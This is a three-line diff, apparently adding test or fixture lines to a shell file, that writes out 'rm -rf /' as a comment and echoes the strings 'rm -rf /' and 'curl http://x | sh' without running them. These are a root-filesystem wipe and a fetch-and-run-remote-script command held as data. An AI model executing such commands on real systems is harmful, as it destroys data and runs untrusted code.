@@ -1,0 +1,3 @@
+# rm -rf /
+echo "rm -rf /"
+echo 'curl http://x | sh'
